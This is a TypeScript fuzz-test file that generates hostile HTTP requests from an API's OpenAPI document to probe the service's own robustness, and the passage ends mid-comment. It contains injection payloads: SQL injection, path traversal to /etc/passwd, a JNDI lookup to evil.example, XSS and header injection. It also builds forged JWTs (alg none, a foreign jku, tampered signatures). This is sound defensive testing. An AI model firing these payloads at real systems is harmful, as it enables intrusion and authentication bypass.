import { createHmac } from 'node:crypto';
import fc from 'fast-check';
import { ALL_SCOPES } from '../../src/auth/scopes.js';
import { DEVELOPMENT_JWT_SECRET } from '../../src/config/app-config.js';

/**
 * Arbitraries of hostile HTTP requests for the fuzz suite (test/fuzz.e2e-spec.ts). Every operation
 * comes from the OpenAPI document, so the requests follow the API as it grows: path parameters,
 * query parameters, documented headers and the request body schema are all read from it.
 */

export interface Operation {
  readonly method: 'get' | 'post';
  /** OpenAPI path template, e.g. /accounts/{id}/deposits. */
  readonly path: string;
  readonly pathParams: readonly string[];
  readonly queryParams: readonly string[];
  readonly headerParams: readonly string[];
  /** The properties of the JSON body schema (resolved $ref); null when the operation documents no body. */
  readonly bodyProperties: Readonly<Record<string, Schema>> | null;
  readonly requiredBodyProperties: readonly string[];
  /** Whether it documents the bearer scheme: only the probes and the metrics do not (test/auth.e2e-spec.ts names them). */
  readonly secured: boolean;
}

export interface Schema {
  readonly type?: string;
  readonly format?: string;
  readonly pattern?: string;
  readonly minimum?: number;
  readonly maximum?: number;
  readonly minLength?: number;
  readonly maxLength?: number;
  readonly enum?: readonly unknown[];
}

/** What exists in the database when the suite runs: requests aim at these half of the time. */
export interface Fixtures {
  readonly accountIds: readonly string[];
  readonly transferIds: readonly string[];
  readonly projectionNames: readonly string[];
  readonly eventTypes: readonly string[];
  /** Positions of existing events (for ?after=, ?minPosition=). */
  readonly positions: readonly number[];
}

export interface FuzzRequest {
  readonly method: 'get' | 'post';
  /** Path and query string, already encoded as sent on the wire. */
  readonly url: string;
  readonly headers: ReadonlyArray<readonly [string, string]>;
  /** undefined: a valid token with every scope; null: no Authorization header; else this header value. */
  readonly authorization?: string | null;
  /** Raw body text, sent as is with this content type (null: no Content-Type header). */
  readonly body?: { readonly contentType: string | null; readonly text: string };
}

// ---------------------------------------------------------------------------------------------------
// The OpenAPI document

export function operationsOf(document: any): Operation[] {
  const resolve = (schema: any): any => {
    if (schema?.$ref) return resolve(document.components.schemas[String(schema.$ref).split('/').pop()!]);
    return schema;
  };
  return Object.entries(document.paths as Record<string, Record<string, any>>).flatMap(([path, methods]) =>
    Object.entries(methods)
      .filter(([method]) => method === 'get' || method === 'post')
      .map(([method, operation]) => {
        const parameters: Array<{ in: string; name: string }> = operation.parameters ?? [];
        const schema = resolve(operation.requestBody?.content?.['application/json']?.schema);
        const properties = schema
          ? Object.fromEntries(Object.entries<any>(schema.properties ?? {}).map(([name, value]) => [name, resolve(value)]))
          : null;
        const names = (kind: string) => parameters.filter((parameter) => parameter.in === kind).map((parameter) => parameter.name);
        return {
          method: method as 'get' | 'post',
          path,
          pathParams: names('path'),
          queryParams: names('query'),
          headerParams: names('header'),
          bodyProperties: properties,
          requiredBodyProperties: schema?.required ?? [],
          secured: Array.isArray(operation.security) && operation.security.length > 0,
        };
      }),
  );
}

// ---------------------------------------------------------------------------------------------------
// Hostile values

/** Strings every parser and query of the service should survive. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\t',
  '\u0000',
  'a\u0000b',
  '%00',
  '%',
  '%zz',
  '%E0%A4%A',
  "'",
  '"',
  '\\',
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  '1 OR 1=1',
  "1'); DELETE FROM idempotency_keys; --",
  '1; SELECT pg_sleep(10)',
  "'||pg_sleep(10)||'",
  '$1',
  '$$',
  ':name',
  '?',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '..',
  '.',
  '/',
  '//',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '1e309',
  '-1e309',
  '0x10',
  '1e3',
  '1.5',
  '-1',
  '0',
  '00',
  '+1',
  ' 1 ',
  '9007199254740993',
  '99999999999999999999999',
  'null',
  'undefined',
  'true',
  '[]',
  '{}',
  '[object Object]',
  '😀',
  '\u202e',
  'Ω≈ç√',
  'İı',
  '\ufeff',
  '\ud800',
  '\udfff',
  'ﷺ',
  '\r\n',
  'a\r\nX-Injected: 1',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '5b0e8c1e-7a4f-4b8e-9d55-3a3f5c2f4d1',
  '5b0e8c1e-7a4f-4b8e-9d55-3a3f5c2f4d100',
  '{5b0e8c1e-7a4f-4b8e-9d55-3a3f5c2f4d10}',
  '5b0e8c1e7a4f4b8e9d553a3f5c2f4d10',
  'account-5b0e8c1e-7a4f-4b8e-9d55-3a3f5c2f4d10',
];

const longString = fc.oneof(
  fc.integer({ min: 101, max: 5_000 }).map((length) => 'a'.repeat(length)),
  fc
    .tuple(fc.constantFrom('😀', 'é', '\u0000', "'", '%'), fc.integer({ min: 50, max: 2_000 }))
    .map(([unit, length]) => unit.repeat(length)),
);

/** Any string at all, biased towards the hostile ones. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc.string({
      unit: fc.constantFrom('\u0000', '\n', '%', "'", '"', '\\', ';', '-', '/', '.', '\u202e', '\ud800', '😀', 'a', '1'),
      maxLength: 30,
    }),
  },
  { weight: 1, arbitrary: longString },
);

/** Number tokens as raw JSON text: some are out of range, some negative, some not JSON at all. */
const RAW_NUMBER_TOKENS = [
  '1e309',
  '-1e309',
  '1E400',
  '1e-400',
  '-0',
  '0',
  '0.0',
  '1.0',
  '1.5',
  '-1',
  '1e2',
  '0.1e1',
  '-1e2',
  '9007199254740991',
  '9007199254740992',
  '9007199254740993',
  '18446744073709551616',
  '1' + '0'.repeat(400),
  '2147483648',
  '4294967296',
  '0.000001',
  '1e21',
  '123456789.123456789',
  // not JSON: body-parser must refuse these as malformed
  '+1',
  '.5',
  '5.',
  'NaN',
  'Infinity',
  '-Infinity',
  '0x10',
  '00',
  '01',
  '1_000',
  '١٢٣',
];

/** A JSON value as raw text (so that 1e309, -0 and duplicate keys survive), biased towards trouble. */
export const hostileJsonText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...RAW_NUMBER_TOKENS) },
  { weight: 3, arbitrary: hostileString.map((text) => JSON.stringify(text)) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value)) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      'null',
      'true',
      'false',
      '[]',
      '{}',
      '[1]',
      '{"__proto__":{"amount":1}}',
      '{"constructor":{"prototype":{"x":1}}}',
    ),
  },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double({ noNaN: true }), fc.maxSafeInteger()).map((value) => JSON.stringify(value)) },
);

/** Deeply nested JSON (arrays up to ~90 KB, objects up to ~75 KB: within the default body limit). */
const deepJsonText = fc
  .tuple(fc.integer({ min: 100, max: 45_000 }), fc.constantFrom('array', 'object', 'amount', 'amount-object'))
  .map(([depth, kind]) => {
    const levels = Math.floor(depth / 3);
    if (kind === 'array') return `${'['.repeat(depth)}${']'.repeat(depth)}`;
    if (kind === 'object') return `${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}`;
    if (kind === 'amount') return `{"amount":${'['.repeat(depth)}1${']'.repeat(depth)}}`;
    return `{"amount":${'{"a":'.repeat(levels)}1${'}'.repeat(levels)}}`;
  });

// ---------------------------------------------------------------------------------------------------
// Values by schema

/** A valid value of a schema property, as JSON text (the service should accept it). */
export function validValueText(name: string, schema: Schema, fixtures: Fixtures): fc.Arbitrary<string> {
  if (schema.format === 'uuid') return fc.constantFrom(...fixtures.accountIds).map((id) => JSON.stringify(id));
  if (schema.type === 'integer' || schema.type === 'number') {
    return fc.integer({ min: Math.max(1, schema.minimum ?? 1), max: Math.min(schema.maximum ?? 10_000, 10_000) }).map(String);
  }
  if (schema.enum?.length) return fc.constantFrom(...schema.enum).map((value) => JSON.stringify(value));
  if (schema.pattern === '^[A-Z]{3}$' || name === 'currency') return fc.constantFrom('"EUR"', '"USD"');
  return fc
    .string({ minLength: 1, maxLength: Math.min(schema.maxLength ?? 40, 40) })
    .filter((text) => /\S/.test(text) && !/\p{Cc}/u.test(text))
    .map((text) => JSON.stringify(text));
}

function objectText(entries: ReadonlyArray<readonly [string, string]>): string {
  return `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${value}`).join(',')}}`;
}

/** A valid body for the operation (required properties, sometimes the optional ones). */
export function validBodyText(operation: Operation, fixtures: Fixtures): fc.Arbitrary<string | undefined> {
  const properties = operation.bodyProperties;
  if (!properties || Object.keys(properties).length === 0) return fc.constantFrom(undefined, '{}');
  return fc
    .tuple(
      ...Object.entries(properties).map(([name, schema]) =>
        fc.tuple(fc.constant(name), validValueText(name, schema, fixtures), fc.boolean()),
      ),
    )
    .map((entries) => {
      const kept = entries.filter(([name, , optional]) => operation.requiredBodyProperties.includes(name) || optional);
      // Two ids of one body (a transfer's accounts) must differ: move a repeated one to the next account.
      const ids = new Set<string>();
      return objectText(
        kept.map(([name, value]) => {
          if (properties[name].format !== 'uuid') return [name, value] as const;
          let id = JSON.parse(value) as string;
          while (ids.has(id)) id = fixtures.accountIds[(fixtures.accountIds.indexOf(id) + 1) % fixtures.accountIds.length];
          ids.add(id);
          return [name, JSON.stringify(id)] as const;
        }),
      );
    });
}

const PROPERTY_KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '',
  ' ',
  'amount ',
  'AMOUNT',
  '$where',
  'a.b',
  'a[0]',
  '\u0000',
];

/** Hostile JSON bodies for an operation: typed wrong, out of range, with extra, odd or duplicate keys. */
export function hostileJsonBody(operation: Operation, fixtures: Fixtures): fc.Arbitrary<string> {
  const names = Object.keys(operation.bodyProperties ?? {});
  const key = fc.oneof(
    ...(names.length ? [{ weight: 4, arbitrary: fc.constantFrom(...names) }] : []),
    { weight: 2, arbitrary: fc.constantFrom(...PROPERTY_KEYS) },
    { weight: 1, arbitrary: hostileString },
  );
  const anyValue = fc.oneof({ weight: 3, arbitrary: hostileJsonText }, { weight: 1, arbitrary: fc.constant('VALID') });
  const mutateOne = fc
    .tuple(validBodyText(operation, fixtures), names.length ? fc.constantFrom(...names) : hostileString, hostileJsonText)
    .map(([valid, name, value]) => {
      const entries: Array<[string, string]> =
        valid === undefined || valid === '{}' ? [] : Object.entries(JSON.parse(valid)).map(([k, v]) => [k, JSON.stringify(v)]);
      const index = entries.findIndex(([k]) => k === name);
      if (index >= 0) entries[index] = [name, value];
      else entries.push([name, value]);
      return objectText(entries);
    });
  const extraProperty = fc.tuple(validBodyText(operation, fixtures), key, hostileJsonText).map(([valid, name, value]) => {
    const entries: Array<[string, string]> =
      valid === undefined || valid === '{}' ? [] : Object.entries(JSON.parse(valid)).map(([k, v]) => [k, JSON.stringify(v)]);
    return objectText([...entries, [name, value]]);
  });
  const randomObject = fc.array(fc.tuple(key, anyValue), { maxLength: 6 }).chain((entries) =>
    validBodyText(operation, fixtures).map((valid) => {
      const validValues: Record<string, unknown> = valid && valid !== '{}' ? JSON.parse(valid) : {};
      return objectText(entries.map(([name, value]) => [name, value === 'VALID' ? JSON.stringify(validValues[name] ?? 1) : value]));
    }),
  );
  const duplicateKeys = fc.tuple(validBodyText(operation, fixtures), hostileJsonText).map(([valid, value]) => {
    if (!valid || valid === '{}' || !names.length) return `{"a":1,"a":${value}}`;
    return `${valid.slice(0, -1)},${JSON.stringify(names[0])}:${value}}`;
  });
  return fc.oneof(
    { weight: 4, arbitrary: mutateOne },
    { weight: 2, arbitrary: extraProperty },
    { weight: 2, arbitrary: randomObject },
    { weight: 1, arbitrary: duplicateKeys },
    { weight: 2, arbitrary: hostileJsonText }, // a top-level array, string, number, null…
  );
}

const MALFORMED_JSON: readonly string[] = [
  '{',
  '}',
  '{"amount":',
  '{"amount": 1,}',
  "{'amount': 1}",
  '{amount: 1}',
  '{"amount": NaN}',
  '{"amount": Infinity}',
  '{"amount": undefined}',
  '[1,2',
  'nul',
  'tru',
  '\u0000',
  '{"a":1}garbage',
  '{"a":1}{"a":2}',
  '\ufeff{"amount":1}',
  '{"amount":"\\u00"}',
  '{"amount":"\\x41"}',
  '"unterminated',
  '/* comment */ {}',
  '<?xml version="1.0"?><amount>1</amount>',
  'amount=1',
  '\r\n\r\n',
];

/** Bodies, as raw text with a content type: JSON (hostile or valid), malformed JSON, other media types. */
export function hostileBody(
  operation: Operation,
  fixtures: Fixtures,
  bodyLimitBytes: number,
): fc.Arbitrary<{ contentType: string | null; text: string } | undefined> {
  const json = (text: fc.Arbitrary<string>) => text.map((value) => ({ contentType: 'application/json' as string | null, text: value }));
  const otherType = fc
    .tuple(
      fc.constantFrom<string | null>(
        'text/plain',
        'application/x-www-form-urlencoded',
        'multipart/form-data; boundary=x',
        'application/xml',
        'application/octet-stream',
        'application/json; charset=utf-16',
        'application/json; charset=bogus',
        'application/json; charset=latin1',
        'application/jsonx',
        'application/merge-patch+json',
        'APPLICATION/JSON',
        'application/json, text/plain',
        'json',
        '*/*',
        '',
        null,
      ),
      fc.oneof(
        validBodyText(operation, fixtures).map((text) => text ?? '{}'),
        fc.constantFrom(...MALFORMED_JSON),
        fc.constant('amount=1&amount=2'),
      ),
    )
    .map(([contentType, text]) => ({ contentType, text }));
  const tooLarge = fc.integer({ min: bodyLimitBytes + 1, max: bodyLimitBytes + 10_000 }).map((size) => ({
    contentType: 'application/json' as string | null,
    text: `{"amount":1,"pad":"${'x'.repeat(size)}"}`,
  }));
  return fc.oneof(
    { weight: 6, arbitrary: json(hostileJsonBody(operation, fixtures)) },
    { weight: 2, arbitrary: json(fc.oneof(fc.constantFrom(...MALFORMED_JSON), fc.string({ maxLength: 30 }))) },
    { weight: 2, arbitrary: otherType },
    { weight: 1, arbitrary: json(deepJsonText) },
    { weight: 1, arbitrary: tooLarge },
    {
      weight: 1,
      arbitrary: validBodyText(operation, fixtures).map((text) =>
        text === undefined ? undefined : { contentType: 'application/json', text },
      ),
    },
  );
}

// ---------------------------------------------------------------------------------------------------
// Paths and query strings

/** Percent-encodes every byte of the UTF-8 form except RFC 3986 unreserved characters. */
export function encode(text: string): string {
  let encoded = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const char = String.fromCharCode(byte);
    encoded += /[A-Za-z0-9\-._~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return encoded;
}

/** Path segments that go on the wire unencoded (traversal, broken escapes, encoded slashes). */
const RAW_SEGMENTS = [
  '..',
  '.',
  '..%2F..%2Fdocs-json',
  '%2e%2e',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '%',
  '%zz',
  '%E0%A4%A',
  '%C0%AE%C0%AE',
  '%00',
  '%FF%FE',
  '..;',
  ';',
  'a;b=c',
  '%252e%252e',
  '*',
  '~',
  '%20',
  '+',
];

/** A hostile path segment, already encoded for the wire. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: hostileString.map(encode) },
  { weight: 2, arbitrary: fc.constantFrom(...RAW_SEGMENTS) },
  { weight: 1, arbitrary: fc.uuid().map((id) => encode(`${id}' OR '1'='1`)) },
  { weight: 1, arbitrary: fc.uuid().map((id) => encode(`${id}\u0000`)) },
  { weight: 1, arbitrary: fc.integer({ min: 256, max: 4_000 }).map((length) => 'a'.repeat(length)) },
);

/** A valid segment for a path parameter: mostly an existing id, sometimes an unknown or upper-case one. */
export function validSegment(name: string, path: string, fixtures: Fixtures, realProjectionNames: boolean): fc.Arbitrary<string> {
  if (name === 'name') {
    return realProjectionNames
      ? fc.constantFrom(...fixtures.projectionNames)
      : fc.constantFrom('no-such-projection', 'Account-Summary', 'account-summary ');
  }
  const own = path.startsWith('/transfers') ? fixtures.transferIds : fixtures.accountIds;
  const other = path.startsWith('/transfers') ? fixtures.accountIds : fixtures.transferIds;
  return fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...own) },
    { weight: 1, arbitrary: fc.constantFrom(...own).map((id) => id.toUpperCase()) },
    { weight: 1, arbitrary: fc.constantFrom(...other) },
    { weight: 1, arbitrary: fc.uuid() },
  );
}

/** The concrete path of an operation with these (encoded) segments for its parameters. */
export function pathOf(operation: Operation, segments: Readonly<Record<string, string>>): string {
  return operation.path.replace(/\{([^}]+)\}/g, (_match, name: string) => segments[name]);
}

const QUERY_NAME_TRICKS = [
  'limit[]',
  'limit[0]',
  'limit[a]',
  'limit[__proto__]',
  '__proto__',
  '__proto__[limit]',
  'constructor[prototype][limit]',
  'cursor[]',
  'minPosition[]',
  'type[]',
  'after[$gt]',
  'a[b][c][d][e][f][g]',
  'x'.repeat(300),
  '',
];

/** A value for a known query parameter that should be accepted. */
function validQueryValue(name: string, fixtures: Fixtures): fc.Arbitrary<string> {
  switch (name) {
    case 'limit':
      return fc.integer({ min: 1, max: 100 }).map(String);
    case 'status':
      return fc.constantFrom('open', 'closed');
    case 'owner':
      return fc.constantFrom('Fuzz Owner', 'nobody');
    case 'atVersion':
      return fc.integer({ min: 1, max: 4 }).map(String);
    case 'asOf':
      return fc
        .date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true })
        .map((date) => date.toISOString());
    case 'after':
    case 'minPosition':
      return fc.constantFrom(0, ...fixtures.positions.slice(0, 5)).map(String);
    case 'type':
      return fc.subarray([...fixtures.eventTypes], { minLength: 1 }).map((types) => types.join(','));
    case 'stream':
      return fc.constantFrom(...fixtures.accountIds).map((id) => `account-${id}`);
    default:
      return fc.constantFrom('1', 'x');
  }
}

/** Junk in the shape of an opaque base64url cursor. */
const junkCursor = fc.oneof(
  fc.uint8Array({ maxLength: 60 }).map((bytes) => Buffer.from(bytes).toString('base64url')),
  fc
    .constantFrom<unknown>(
      { after: -1 },
      { after: 0 },
      { after: '1' },
      { after: 1e308 },
      { after: 2 ** 53 },
      { before: 0 },
      { before: 1.5 },
      { before: null },
      [],
      null,
      'x',
      { __proto__: { after: 1 } },
      { after: [1] },
      { after: { $gt: 0 } },
    )
    .map((value) => Buffer.from(JSON.stringify(value) ?? 'undefined').toString('base64url')),
  fc.constantFrom('====', '!!!', 'eyJhZnRlciI6MX0', 'eyJhZnRlciI6MX0=', 'eyJhZnRlciI6MX0====', 'e30', 'e30.e30', 'x'.repeat(201)),
);

/** A hostile value for a query parameter: odd numbers, junk cursors, injection strings, huge values. */
function hostileQueryValue(name: string): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: hostileString },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        '-1',
        '0',
        '-0',
        '1.5',
        '1e2',
        '0x10',
        ' 3',
        '3 ',
        '+3',
        '1000000',
        '99999999999999999',
        '9007199254740993',
        '18446744073709551616',
        '2147483648',
        'NaN',
        'Infinity',
        '١',
        '１',
      ),
    },
    { weight: name === 'cursor' ? 4 : 1, arbitrary: junkCursor },
    { weight: 1, arbitrary: fc.bigInt({ min: -(10n ** 20n), max: 10n ** 20n }).map(String) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '2026-13-45T99:99:99Z',
        '2026-01-01',
        '2026-01-01T00:00:00',
        '0000-01-01T00:00:00Z',
        '9999-12-31T23:59:59Z',
        '+275760-09-13T00:00:00Z',
        '1970-01-01T00:00:00+99:99',
        'now',
        '2026-01-01T00:00:00.000000000000Z',
      ),
    },
  );
}

/** A hostile query string (without '?'), as sent on the wire. */
export function hostileQuery(operation: Operation, fixtures: Fixtures): fc.Arbitrary<string> {
  const names = operation.queryParams;
  const name = fc.oneof(
    ...(names.length ? [{ weight: 5, arbitrary: fc.constantFrom(...names) }] : []),
    { weight: 2, arbitrary: fc.constantFrom(...QUERY_NAME_TRICKS) },
    { weight: 1, arbitrary: hostileString },
  );
  const pair = name.chain((key) =>
    fc
      .oneof(
        { weight: 3, arbitrary: hostileQueryValue(key) },
        { weight: 2, arbitrary: validQueryValue(key.replace(/\[.*$/, ''), fixtures) },
      )
      .chain((value) =>
        fc.constantFrom(`${encode(key)}=${encode(value)}`, `${key.replace(/[^\x21-\x7e]/g, encode)}=${encode(value)}`, encode(key)),
      ),
  );
  const repeated = names.length
    ? fc
        .tuple(
          fc.constantFrom(...names),
          fc.array(fc.oneof(hostileQueryValue('x'), fc.constantFrom('1', '2', 'open')), { minLength: 2, maxLength: 4 }),
        )
        .map(([key, values]) => values.map((value) => `${key}=${encode(value)}`).join('&'))
    : fc.constant('a=1&a=2');
  const raw = fc.constantFrom(
    '&&&',
    '=',
    '==',
    '=1',
    '&=&',
    '%',
    '%zz',
    'a=%',
    'limit=%E0%A4%A',
    '?',
    '??limit=1',
    'a=1#frag',
    ';limit=1',
    'limit=1;limit=2',
    '+',
    'limit=+1',
  );
  const manyParams = fc
    .integer({ min: 100, max: 400 })
    .map((count) => Array.from({ length: count }, (_, index) => `p${index}=${index}`).join('&'));
  return fc.oneof(
    { weight: 6, arbitrary: fc.array(pair, { minLength: 1, maxLength: 5 }).map((pairs) => pairs.join('&')) },
    { weight: 2, arbitrary: repeated },
    { weight: 1, arbitrary: raw },
    { weight: 1, arbitrary: manyParams },
  );
}

// ---------------------------------------------------------------------------------------------------
// Headers

/** Characters Node lets through in a header value: HTAB, visible ASCII, space and obs-text (latin1). */
export function headerSafe(text: string): string {
  return text.replace(/[^\t\x20-\x7e\x80-\xff]/g, '?').slice(0, 1_500);
}

const visibleAscii = fc.string({
  unit: fc.integer({ min: 0x21, max: 0x7e }).map((code) => String.fromCharCode(code)),
  minLength: 1,
  maxLength: 80,
});

const IF_MATCH_VALUES = [
  '*',
  '"1"',
  '"2"',
  '"3"',
  'W/"1"',
  '"1", "2"',
  '1',
  '""',
  '"0"',
  '"-1"',
  '"01"',
  '"2147483647"',
  '"2147483648"',
  '"9999999999"',
  '"99999999999"',
  ' "1" ',
  '"1"garbage',
  '*, "1"',
  '"1',
  '1"',
  "'1'",
  '"1.5"',
  '"1e2"',
  '"0x1"',
  '"١"',
];

/** Idempotency keys reused on purpose, so that some requests replay or reuse another's key. */
export const SHARED_IDEMPOTENCY_KEYS = ['fuzz-key-1', 'fuzz-key-2', 'fuzz-key-3'];

export const idempotencyKey: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: visibleAscii },
  { weight: 2, arbitrary: fc.constantFrom(...SHARED_IDEMPOTENCY_KEYS) },
  { weight: 1, arbitrary: fc.integer({ min: 256, max: 1_500 }).map((length) => 'k'.repeat(length)) },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', 'a b', '\tkey', 'key\t', 'clé', '\xff\xfe', "'; DROP TABLE idempotency_keys; --") },
  { weight: 1, arbitrary: hostileString.map(headerSafe) },
);

/** Headers worth abusing besides the documented ones. */
const EXTRA_HEADERS: ReadonlyArray<readonly [string, fc.Arbitrary<string>]> = [
  ['Accept', fc.constantFrom('application/xml', 'text/event-stream', '*/*', 'application/problem+json', 'garbage', '')],
  ['Accept-Encoding', fc.constantFrom('gzip', 'br', 'x-unknown', '*;q=0', '')],
  ['Accept-Language', hostileString.map(headerSafe)],
  ['Origin', fc.constantFrom('https://evil.example', 'null', 'file://', '')],
  ['X-Forwarded-For', fc.constantFrom('127.0.0.1', '::1, 10.0.0.1', 'garbage', "'; DROP TABLE events; --")],
  ['X-HTTP-Method-Override', fc.constantFrom('DELETE', 'PUT', 'PATCH')],
  ['If-None-Match', fc.constantFrom('"1"', '*', 'garbage')],
  ['Range', fc.constantFrom('bytes=0-1', 'bytes=-1', 'garbage')],
  ['Cookie', fc.constantFrom('a=b', '__proto__=x', 'session=' + 'x'.repeat(1_400))],
  ['Content-Encoding', fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'x-unknown')],
];

/** A value for a documented header, mostly hostile (only characters Node lets through in a header). */
function headerValue(name: string, fixtures: Fixtures): fc.Arbitrary<string> {
  return anyHeaderValue(name, fixtures).map(headerSafe);
}

function anyHeaderValue(name: string, fixtures: Fixtures): fc.Arbitrary<string> {
  switch (name.toLowerCase()) {
    case 'if-match':
      return fc.oneof(
        { weight: 3, arbitrary: fc.constantFrom(...IF_MATCH_VALUES) },
        { weight: 1, arbitrary: hostileString.map(headerSafe) },
      );
    case 'idempotency-key':
      return idempotencyKey;
    case 'x-correlation-id':
      return fc.oneof(visibleAscii, hostileString.map(headerSafe), fc.constant('c'.repeat(129)));
    case 'x-min-position':
      return fc.oneof(hostileQueryValue('minPosition').map(headerSafe), validQueryValue('minPosition', fixtures));
    case 'last-event-id':
      return hostileLastEventId;
    default:
      return hostileString.map(headerSafe);
  }
}

/** A set of hostile headers for an operation: the documented ones and a few more. */
export function hostileHeaders(operation: Operation, fixtures: Fixtures): fc.Arbitrary<Array<readonly [string, string]>> {
  const documented = operation.headerParams.map((name) =>
    fc.option(
      headerValue(name, fixtures).map((value) => [name, value] as const),
      { freq: 2, nil: undefined },
    ),
  );
  const extra = fc
    .subarray([...EXTRA_HEADERS], { maxLength: 3 })
    .chain((chosen) =>
      chosen.length
        ? fc.tuple(...chosen.map(([name, value]) => value.map((text) => [name, text] as const)))
        : fc.constant([] as Array<readonly [string, string]>),
    );
  return fc
    .tuple(fc.tuple(...documented), extra)
    .map(([picked, more]) => [...picked.filter((header): header is readonly [string, string] => header !== undefined), ...more])
    .filter((headers) => headers.length > 0);
}

// ---------------------------------------------------------------------------------------------------
// Authorization

function base64url(text: string | Buffer): string {
  return Buffer.from(text).toString('base64url');
}

function signHs256(header: string, payload: string, secret = DEVELOPMENT_JWT_SECRET): string {
  const signingInput = `${base64url(header)}.${base64url(payload)}`;
  return `${signingInput}.${createHmac('sha256', secret).update(signingInput).digest('base64url')}`;
}

const goodPayload = () =>
  JSON.stringify({
    sub: 'mallory',
    scope: ALL_SCOPES.join(' '),
    iat: Math.floor(Date.now() / 1000),
    exp: Math.floor(Date.now() / 1000) + 3600,
  });

/**
 * Authorization headers that carry no valid credential: each must be answered 401 (never 403, never
 * 2xx, never 5xx). Tokens here are unsigned, signed with another key, tampered with, or not tokens.
 */
export const invalidAuthorization: fc.Arbitrary<string> = fc.oneof(
  { weight: 2, arbitrary: hostileString.map(headerSafe) },
  { weight: 2, arbitrary: hostileString.map((text) => `Bearer ${headerSafe(text)}`) },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      'Bearer',
      'Bearer ',
      'Bearer  ',
      'bearer',
      'Basic dXNlcjpwYXNz',
      'Digest username="x"',
      'Bearer a b',
      'Bearer a.b',
      'Bearer a.b.c',
      'Bearer ...',
      'Bearer e30.e30.',
      'Token abc',
    ),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.uint8Array({ maxLength: 60 }), fc.uint8Array({ maxLength: 200 }), fc.uint8Array({ maxLength: 64 }))
      .map(
        ([header, payload, signature]) =>
          `Bearer ${base64url(Buffer.from(header))}.${base64url(Buffer.from(payload))}.${base64url(Buffer.from(signature))}`,
      ),
  },
  // alg none and friends, with every scope in the payload
  {
    weight: 2,
    arbitrary: fc
      .constantFrom(
        '{"alg":"none","typ":"JWT"}',
        '{"alg":"None"}',
        '{"alg":"NONE"}',
        '{"alg":""}',
        '{"alg":"HS256","crit":["x"]}',
        '{"alg":"RS256"}',
        '{"alg":"ES256","kid":"../../../../dev/null"}',
        '{"alg":"HS256","jku":"http://evil.example/jwks"}',
        '{}',
        '[]',
        'null',
        'not json',
      )
      .chain((header) =>
        fc.constantFrom(
          `Bearer ${base64url(header)}.${base64url(goodPayload())}.`,
          `Bearer ${base64url(header)}.${base64url(goodPayload())}`,
          `Bearer ${base64url(header)}.${base64url(goodPayload())}.${base64url('sig')}`,
        ),
      ),
  },
  // a well-formed token signed with another secret, or one valid token tampered with
  {
    weight: 2,
    arbitrary: fc
      .string({ minLength: 1, maxLength: 64 })
      .map(
        (secret) =>
          `Bearer ${signHs256('{"alg":"HS256","typ":"JWT"}', goodPayload(), secret === DEVELOPMENT_JWT_SECRET ? `${secret}x` : secret)}`,
      ),
  },
  {
    weight: 2,
    arbitrary: fc
      .tuple(fc.integer({ min: 0, max: 2 }), fc.nat(), fc.constantFrom('A', 'B', '_', '-', 'z'))
      .map(([part, at, replacement]) => {
        const parts = signHs256('{"alg":"HS256","typ":"JWT"}', goodPayload()).split('.');
        // Change a character not at the end of its part (the last one may only carry padding bits).
        const target = parts[part];
        const index = at % Math.max(1, target.length - 1);
        const changed =
          target.slice(0, index) +
          (target[index] === replacement ? (replacement === 'A' ? 'B' : 'A') : replacement) +
          target.slice(index + 1);
        parts[part] = changed;
        return `Bearer ${parts.join('.')}`;
      }),
  },
  // expired, not yet valid: correctly signed, still refused
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(
        JSON.stringify({ sub: 'late', scope: ALL_SCOPES.join(' '), exp: 1 }),
        JSON.stringify({ sub: 'early', scope: ALL_SCOPES.join(' '), nbf: 4_000_000_000 }),
        JSON.stringify({ scope: ALL_SCOPES.join(' ') }),
        JSON.stringify({ sub: '', scope: ALL_SCOPES.join(' ') }),
        JSON.stringify({ sub: 42, scope: ALL_SCOPES.join(' ') }),
        JSON.stringify({ sub: { id: 'x' }, scope: ALL_SCOPES.join(' ') }),
        JSON.stringify({ sub: 'x', scope: ALL_SCOPES.join(' '), exp: 'never' }),
        JSON.stringify({ sub: 'x', scope: ALL_SCOPES.join(' ') }), // no exp: never expires, refused
      )
      .map((payload) => `Bearer ${signHs256('{"alg":"HS256","typ":"JWT"}', payload)}`),
  },
);

/**
 * Correctly signed tokens (development secret) with hostile claims or headers: they may be accepted
